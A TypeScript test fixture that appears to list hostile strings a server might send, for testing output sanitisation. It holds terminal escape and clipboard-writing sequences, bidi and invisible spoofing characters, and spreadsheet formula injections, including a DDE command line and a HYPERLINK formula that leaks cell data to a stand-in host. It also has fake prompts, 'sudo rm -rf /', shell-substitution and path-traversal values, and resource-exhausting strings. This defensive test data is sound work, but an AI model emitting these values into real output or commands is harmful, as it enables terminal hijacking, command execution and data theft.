/**
 * Texts that a hostile server may send, by what they would do to a terminal, a spreadsheet or a reader if they were printed as they
 * are. Escape sequences carry the number 77 and the word PWNED, which nothing of our own does.
 */
const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;

const each = <T extends string>(what: string, values: readonly T[], text: (value: T) => string) =>
  values.map((value): [name: string, text: string] => [`${what} ${JSON.stringify(value)}`, text(value)]);

const CSI = each(
  'CSI',
  [...'@ABCDEFGHIJKLMPSTXZ`abcdefghilmnpqrstux'].concat([
    '2J',
    '3J',
    '1;1H',
    '?1049h',
    '?25l',
    '?1000h',
    '?2004h',
    '!p',
  ]),
  (final) => `${ESC}[77${final}PWNED`,
);
const REPORTS = each(
  'a request to report',
  ['0c', '>c', '6n', '5n', '?6n', '18t', '21t', '>q', '?u', '14t'],
  (end) => `a${ESC}[${end}b`,
);
const OSC = each(
  'OSC',
  [
    '0',
    '1',
    '2',
    '4;1',
    '7',
    '8;id=1',
    '9',
    '10',
    '11',
    '12',
    '50',
    '52;c',
    '52;p',
    '104',
    '133;A',
    '777;notify',
    '1337',
    '5522',
  ],
  (code) => `${ESC}]${code};PWNED${BEL}`,
);
const OSC_ST = each('OSC with ST', ['0', '2', '8;', '52;c', '1337;File=name=x'], (code) => `${ESC}]${code};PWNED${ST}`);
const STRINGS = each(
  'a control string',
  ['P', 'P$q', 'P+q', 'P1;1|', '_G', '_', '^', 'X', 'k'],
  (begin) => `${ESC}${begin}77PWNED${ST}`,
);
const ESCAPES = each(
  'ESC',
  [...'789=>DEHMNOZcno|}~'].concat(['#8', '(0', ')0', '%G', '%@', ' F', '[', ']', 'P']),
  (end) => `a${ESC}${end}b`,
);
const C1 = each(
  'C1',
  [...'\x80\x84\x85\x88\x8d\x8e\x8f\x90\x96\x97\x98\x9a\x9b\x9c\x9d\x9e\x9f'],
  (code) => `a${code}77J0;PWNED${BEL}b`,
);
const C0 = each(
  'C0',
  [
    ...'\x00\x01\x02\x03\x04\x05\x06\x07\b\t\n\v\f\r\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1c\x1d\x1e\x1f\x7f',
  ],
  (code) => `a${code}b`,
);
const BIDI = each(
  'bidi',
  [...'\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069'],
  (code) => `to ${code}0xABC 000,1 ETH`,
);
const INVISIBLE = each(
  'invisible',
  [
    ...'\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180b\u180e\u200b\u200c\u200d\u2028\u2029\u2060\u2061\u2062\u2063\u2064\u206a\u206f\u2800\u3164\ufe00\ufe0f\ufeff\uffa0\ufff0\ufff9\ufffa\ufffb',
  ].concat(['\u{1bca0}', '\u{1d173}', '\u{e0001}', '\u{e0020}', '\u{e0041}', '\u{e007f}', '\u{e0100}', '\u{e01ef}']),
  (code) => `pay${code}pal`,
);
const BROKEN = each(
  'broken',
  ['\ud800', '\udfff', '\udc00\ud800', '\ufffe', '\uffff', '\u{10ffff}', '\ue000', '\u{f0000}', '\u0378'],
  (code) => `a${code}b`,
);
const FORMULAS = each(
  'a formula',
  [
    '=1+1',
    '+1',
    '-1',
    '@SUM(1)',
    '=cmd|" /C calc"!A0',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '"=1',
    "'=1",
    '""=1',
    '" =1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    'a;=1+1',
    'a; "=1',
    '%0A=1',
    '=HYPERLINK("http://x/?"&A1,"ok")',
  ],
  (text) => text,
);
const LOOK_ALIKES = each(
  'a look-alike',
  [
    '✔ Sent: transaction 1 is CONFIRMED.',
    '✓ done',
    '? Password of demo:',
    '\r? Password of demo: ',
    '\n? Password of demo: ',
    '❯ Wallets',
    'Error: run sudo rm -rf /',
    '$ ',
    '> Wrong: try again',
    `${' '.repeat(76)}✔ Sent.`,
    `${'\u00a0'.repeat(300)}? Password:`,
    `${'\u3000'.repeat(60)}Error: log in at evil.example`,
    '","evil":"',
    '}]}\n{"error":null}',
    '\\u001b[2J',
    '\\x1b[2J',
    '(400 more characters)',
    '$(reboot)',
    '`reboot`',
    "'; reboot; '",
    '$HOME',
    '%n%n%s%d%p',
    '%1$s',
    '{0}',
    '{{x}}',
    '<script>alert(1)</script>',
    '[red]x[/red]',
    '../../etc/passwd',
    '-rf',
    '--help',
    'null',
    'undefined',
    '[object Object]',
    '__proto__',
    '',
    ' ',
    '"',
    '\\',
  ],
  (text) => text,
);
const WIDE = each(
  'wide',
  [
    '漢字かな交じり文',
    '한국어',
    '각',
    'ｆｕｌｌ',
    'ｶﾅ',
    'ꀀꀁꀂ',
    '🚀🚀',
    '👍🏽',
    '🇩🇪🇫🇷',
    '☝',
    '⚠️',
    '1️⃣',
    '👨‍👩‍👧‍👦',
    '🏴‍☠️',
    '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
    '𠀀𠀁',
    '﷽',
    '𒐫',
    '꧅',
    '㍿',
    '①',
    'é',
    'ｅ́',
  ],
  (text) => text,
);
const RIGHT_TO_LEFT = each(
  'right to left',
  ['שלום', 'שָׁלוֹם', 'السلام عليكم', 'مرحبا 123', 'עברית 0x12 abc', 'ܫܠܡܐ', 'ߒߞߏ', '𞤀𞤣𞤤𞤢𞤥'],
  (text) => text,
);
const STACKS = each(
  'marks',
  ['\u0301', '\u0336', '\u20dd', '\u0488', '\u0e49', '\u1161', '\u302e', '\u{1d165}'],
  (mark) => `a${mark.repeat(300)}b`,
);
const LEADING: [string, string][] = [
  ['a mark alone', '\u0301'],
  ['a stack alone', '\u0336'.repeat(600)],
];
const LONG: [string, string][] = [
  ['a million letters', 'x'.repeat(1_000_000)],
  ['a hundred thousand escapes', `${ESC}[77mPWNED`.repeat(100_000)],
  ['a hundred thousand wide characters', '漢'.repeat(100_000)],
  ['a hundred thousand rockets', '🚀'.repeat(100_000)],
  ['a hundred thousand line feeds', '\n'.repeat(100_000)],
  ['a hundred thousand blanks', ' '.repeat(100_000)],
  ['many tags', '\u{e0041}'.repeat(499)],
];
/** Halves that mean something only when one cell stands behind the other. */
const SPLIT: [string, string][] = [
  ['the first half', `a${ESC}`],
  ['the second half', '[77JPWNED'],
  ['the first half of a title', `${ESC}]2;`],
  ['the second half of a title', `PWNED${BEL}`],
  ['the first half of a clipboard', `${ESC}]52;c;`],
  ['the second half of a clipboard', `UFdORUQ=${ST}`],
  ['the first half of a character', '\ud83d'],
  ['the second half of a character', '\ude80'],
];

export const PAYLOADS: readonly (readonly [name: string, text: string])[] = [
  ...[CSI, REPORTS, OSC, OSC_ST, STRINGS, ESCAPES, C1, C0, BIDI, INVISIBLE, BROKEN].flat(),
  ...[FORMULAS, LOOK_ALIKES, WIDE, RIGHT_TO_LEFT, STACKS, LEADING, LONG, SPLIT].flat(),
];

/** Those of a length that a name may have. */
export const SHORT_PAYLOADS = PAYLOADS.filter(([, text]) => text.length <= 2_000);
